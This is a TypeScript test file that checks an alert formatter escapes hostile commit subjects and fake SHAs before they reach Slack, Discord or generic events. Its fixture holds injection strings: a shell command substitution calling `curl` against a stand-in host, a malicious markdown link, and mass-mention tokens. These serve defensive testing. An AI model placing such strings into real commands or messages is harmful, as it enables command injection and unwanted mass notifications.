// Alert injection through the new fields: a commit's subject is whoever pushed's text, and a SHA
// that is not one must reach neither a command line (it is pasted into a shell) nor a link.
import { describe, expect, it } from "vitest";
import { formatAlert } from "../../../worker/effects/alerts";
import { anAlert, discordField, GITHUB, PUBLIC_URL, slackButtons, slackContexts, slackField } from "./alert";
import { discordMarkup, GOOD_RUN_URL, HOSTILE_DETAILS, slackMarkup } from "./markup";

const HOSTILE_SHA = "<!channel> `$(curl evil.invalid)` [x](https://evil.invalid) @everyone";

describe("a hostile subject", () => {
  const alert = anAlert({ subject: HOSTILE_DETAILS });

  it("reaches Slack escaped", () => {
    const body = formatAlert(alert, "slack", 0, GITHUB, PUBLIC_URL);
    expect(slackMarkup(body)).toEqual([]);
    expect(slackField(body, "Commit")).toContain("`3f2a1b0` &lt;!channel&gt; &lt;@U123&gt;");
  });

  it("reaches Discord escaped, its mass mentions broken", () => {
    const body = formatAlert(alert, "discord", 0, GITHUB, PUBLIC_URL);
    expect(discordMarkup(body)).toEqual([]);
    expect(discordField(body, "Commit")).toContain("\\[docs\\]\\(https://evil.invalid\\)");
    expect(discordField(body, "Commit")).toContain("@\u200beveryone");
  });

  it("reaches the generic event as it came", () => {
    expect(formatAlert(alert, "generic", 0, GITHUB, PUBLIC_URL)).toMatchObject({ subject: HOSTILE_DETAILS });
  });
});

describe("a SHA that is not one", () => {
  const alert = anAlert({ sha: HOSTILE_SHA });

  it("is escaped text in Slack, with no command and no Record button", () => {
    const body = formatAlert(alert, "slack", 0, GITHUB, PUBLIC_URL);
    expect(slackMarkup(body)).toEqual([]);
    expect(slackField(body, "Commit")).toContain("&lt;!channel&gt;");
    expect(slackContexts(body)).toEqual([]);
    expect(slackButtons(body)).toEqual({ Run: GOOD_RUN_URL });
  });

  it("is escaped text in Discord, with no command and no Record field", () => {
    const body = formatAlert(alert, "discord", 0, GITHUB, PUBLIC_URL);
    expect(discordMarkup(body)).toEqual([]);
    expect(discordField(body, "Commit")).toContain("\\<!channel\\> \\`$\\(curl evil.invalid\\)\\`");
    expect(discordField(body, "Command")).toBeUndefined();
    expect(discordField(body, "Record")).toBeUndefined();
  });

  it("gives the generic event no command and no record link", () => {
    expect(formatAlert(alert, "generic", 0, GITHUB, PUBLIC_URL)).toMatchObject({
      sha: HOSTILE_SHA,
      command: null,
      links: { run: GOOD_RUN_URL, record: null },
    });
  });
});
